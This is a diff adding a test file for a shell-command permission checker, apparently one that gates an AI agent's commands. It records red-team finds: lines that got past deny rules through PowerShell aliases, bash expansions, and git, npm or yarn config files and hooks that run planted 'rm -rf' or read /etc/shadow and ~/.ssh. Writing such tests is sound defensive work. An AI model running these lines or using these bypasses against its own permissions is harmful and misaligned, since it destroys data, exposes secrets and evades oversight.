@@ -1,0 +1,160 @@
+// Red-team finds of session 31, pinned with the rows that failed before the fix and rows that
+// show ordinary lines stay allowed. Rows are also checked against the reference evaluator.
+import { describe } from 'vitest';
+import { lineTable } from './helpers/line-table.js';
+import { REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';
+
+const DENY = ['Shell(rm *)', 'Shell(curl *)', 'Read(//etc/**)', 'Edit(//etc/**)', 'Read(~/.ssh/**)', 'Read(**/.env)', 'Domain(evil.com)'];
+const ALLOW = ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain(*.github.com)'];
+const RULES: Rules = { deny: DENY, allow: ALLOW };
+const REPO_DARWIN = Object.freeze({ ...REPO_LINUX, platform: 'darwin' as const });
+
+// PowerShell 7 on Linux and macOS defines no alias sort, diff, cp, mv, tee, cat, ls, man, lp,
+// cpp, ... (about_Aliases): the name runs the native program. Only the cmdlet was read, whose
+// parameter binding sees no file in `sort .env` (Sort-Object -Property) or `diff /etc/shadow x`
+// (Compare-Object's objects), nor GNU cp's `-t DIR`.
+describe('PowerShell 7 off Windows: an alias Linux and macOS leave to the native program (were allowed)', () => {
+  const rows: [string, 'deny' | 'ask' | 'allow'][] = [
+    ['sort .env', 'deny'],
+    ['sort /etc/shadow', 'deny'],
+    ['Sort /etc/shadow', 'deny'],
+    ['& sort .env', 'deny'],
+    ["& 'sort' .env", 'deny'],
+    ['sort --files0-from=/etc/shadow', 'deny'],
+    ['sort -o /etc/hosts x', 'deny'],
+    ['sort -T /etc x', 'deny'],
+    ['diff /etc/shadow x', 'deny'],
+    ['diff .env x', 'deny'],
+    ['diff -r ~/.ssh x', 'deny'],
+    ['cp -t /etc x', 'deny'],
+    ['cp --target-directory=/etc x', 'deny'],
+    ['/usr/bin/sort /etc/shadow', 'deny'],
+    ['/bin/cp -t /etc x', 'deny'],
+    ['man -P "rm -rf /" ls', 'deny'],
+    ['lp -h evil.com:631 x', 'deny'],
+    ['lp /etc/shadow', 'deny'],
+    ['cpp /etc/shadow', 'deny'],
+    ['cpp -o /etc/hosts x', 'deny'],
+    // Precision: ordinary lines stay allowed.
+    ['sort a.txt', 'allow'],
+    ['Get-ChildItem | sort -Property Name', 'allow'],
+    ['ls | sort Name', 'allow'],
+    ['ls -la src', 'allow'],
+    ['cat README.md', 'allow'],
+    ['cp a.txt b.txt', 'allow'],
+    ['echo hi | tee log.txt', 'allow'],
+    ['sleep 5', 'allow'],
+  ];
+  describe('linux', () => lineTable(RULES, rows, 'pwsh', REPO_LINUX));
+  describe('darwin', () => lineTable(RULES, rows, 'pwsh', REPO_DARWIN));
+});
+
+// On Windows the aliases run the cmdlets: no native reading there (precision kept).
+describe('PowerShell on Windows: the same names are the cmdlets', () => {
+  lineTable({ deny: [...DENY, 'Read(//c/secret/**)'], allow: ALLOW }, [
+    ['sort .env', 'allow'],
+    ['diff a.txt b.txt', 'allow'],
+    ['Get-ChildItem | sort -Property Name', 'allow'],
+    ['cat C:\\secret\\x', 'deny'],
+  ], 'pwsh', REPO_WINDOWS);
+});
+
+// A program the analysis does not read may run its words; an expansion's word was read only by
+// its literal tail (`"$D/rm"`). What bash makes of the rest of it was not read: a brace
+// alternative (`r{m,}` is `rm r`), a parameter's default or alternate value (`${X:-rm}`), an
+// expansion that is empty (`r${X}m`), a glob that matches the program (`/bin/r?` is /bin/rm).
+describe('an unknown program given a command name by brace, default value or glob (were allowed)', () => {
+  const rules: Rules = { deny: ['Shell(rm *)', 'Shell(git push *)'], allow: ['Shell(mytool *)', 'Shell(python3 *)', 'Read(/**)', 'Edit(/**)'] };
+  lineTable(rules, [
+    ['mytool r{m,} -rf x', 'ask'],
+    ['mytool {r,}m -rf x', 'ask'],
+    ['mytool {q..s}m -rf x', 'ask'],
+    ['mytool ${X:-rm} -rf x', 'ask'],
+    ['mytool "${X:-rm}" -rf x', 'ask'],
+    ['mytool ${X-rm} -rf x', 'ask'],
+    ['mytool ${X:=rm} -rf x', 'ask'],
+    ['mytool ${X:+rm} -rf x', 'ask'],
+    ['mytool ${X:-rm -rf x}', 'ask'],
+    ['mytool r${X}m -rf x', 'ask'],
+    ['mytool "r$X"m -rf x', 'ask'],
+    ['mytool /bin/r? -rf x', 'ask'],
+    ['mytool /usr/bin/r? -rf x', 'ask'],
+    ['mytool /bin/r* -rf x', 'ask'],
+    ['mytool /bin/r[m] -rf x', 'ask'],
+    ['mytool ${G:-git} push origin', 'ask'],
+    ['python3 x.py ${X:-rm} -rf x', 'ask'],
+    // Precision: words that show no program a rule names.
+    ['mytool src/*.ts', 'allow'],
+    ['mytool ${VAR:-default}', 'allow'],
+    ['mytool --out=${OUT:-dist} build', 'allow'],
+    ['mytool {a,b}.txt', 'allow'],
+    ['mytool file{1..3}.log', 'allow'],
+    ['mytool "$@"', 'allow'],
+    ['mytool $X -rf x', 'allow'],
+    ['mytool $(pwd)/build', 'allow'],
+    ['mytool src/{main,test}/java', 'allow'],
+    ['mytool ${G:-git} status', 'allow'],
+    ['mytool l?', 'allow'],
+    ['python3 tools/gen.py ${OUT:-out}.json', 'allow'],
+  ]);
+});
+
+// A program that reads a file of the repository as code or settings without being given it ran
+// what the line wrote there: git the repository's config (core.fsmonitor, core.pager, aliases)
+// and hooks, npm/yarn/pnpm package.json, .npmrc (script-shell, node-options), .yarnrc.yml
+// (yarnPath) and the tools' *.config.js, pytest and `python3 -m` any module of the directory.
+describe('a file the line writes that a program then reads as code implicitly (were allowed)', () => {
+  const rules: Rules = {
+    deny: ['Shell(rm *)', 'Read(//etc/**)'],
+    allow: ['Shell(git *)', 'Shell(npm *)', 'Shell(npx *)', 'Shell(yarn *)', 'Shell(pnpm *)', 'Shell(python3 *)', 'Shell(pytest *)', 'Shell(printf *)', 'Shell(echo *)', 'Shell(cp *)', 'Shell(sed *)', 'Shell(tee *)', 'Read(/**)', 'Edit(/**)'],
+  };
+  lineTable(rules, [
+    ["printf '[core]\\n fsmonitor = rm -rf x' >> .git/config && git status", 'ask'],
+    ["printf '[core]\\n pager = rm -rf x' >> .git/config && git log", 'ask'],
+    ["echo 'rm -rf x' > .git/hooks/pre-commit && git commit -m x", 'ask'],
+    ['cp /tmp/h .git/hooks/post-checkout; git checkout main', 'ask'],
+    ["printf 'script-shell=./s.sh' > .npmrc && npm test", 'ask'],
+    ["printf 'x' | tee .npmrc && npm i", 'ask'],
+    ["sed -i 's/\"test\": \"vitest\"/\"test\": \"rm -rf x\"/' package.json && npm test", 'ask'],
+    ["echo 'yarnPath: ./y.js' > .yarnrc.yml && yarn", 'ask'],
+    ["echo 'module.exports = {}' > jest.config.js && npx jest", 'ask'],
+    ["echo 'import os' > conftest.py && python3 -m pytest", 'ask'],
+    ["echo 'import os' > conftest.py && pytest", 'ask'],
+    ["echo 'import os' > x.py && python3 -m x", 'ask'],
+    ["echo 'import os' > json.py && python3 -m pip list", 'ask'],
+    // Precision: the programs' own writes, and lines that write nothing they read.
+    ['npm i lodash', 'allow'],
+    ['npm i -D vitest && npm test', 'allow'],
+    ['npm init -y && npm i express', 'allow'],
+    ['git config user.name x && git commit -m y', 'allow'],
+    ['yarn add react && yarn build', 'allow'],
+    ['pnpm install && pnpm test', 'allow'],
+    ['npm test 2>&1 | tee test.log', 'allow'],
+    ['python3 -m pytest -q', 'allow'],
+    ["echo 'import os' > x.py && git add x.py", 'allow'],
+    ["echo x > notes.txt && python3 -m pytest", 'allow'],
+    ['npx tsc -p tsconfig.build.json && cp package.json README.md dist/', 'allow'],
+    // (A file below a subdirectory counts when the line moves there, or runs the program there.)
+    ['echo x > sub/package.json && cd sub && npm test', 'ask'],
+    ['echo x > sub/package.json && npm --prefix sub test', 'ask'],
+    ['echo x > sub/.git/config && git -C sub status', 'ask'],
+    ["echo 'import os' > tests/test_a.py && python3 -m pytest", 'ask'],
+  ]);
+});
+
+// yarn's setting of the release file it runs (yarnPath, v1's yarn-path) and `yarn set version
+// FILE`, which stores the file as that release, were not read as npm's script-shell is.
+describe('yarn settings that store a program yarn runs later (were allowed)', () => {
+  lineTable({ deny: ['Shell(rm *)'], allow: ['Shell(yarn *)', 'Read(/**)', 'Edit(/**)'] }, [
+    ['yarn config set yarnPath ./y.js', 'ask'],
+    ['yarn config set -H yarnPath ./y.js', 'ask'],
+    ['yarn config set yarn-path ./y.js', 'ask'],
+    ['yarn set version ./y.js', 'ask'],
+    ['yarn set version .yarn/releases/x.cjs', 'ask'],
+    // Precision: a version by name, and other settings.
+    ['yarn set version stable', 'allow'],
+    ['yarn set version 3.6.4', 'allow'],
+    ['yarn config set nodeLinker node-modules', 'allow'],
+    ['yarn config set enableTelemetry 0', 'allow'],
+  ]);
+});
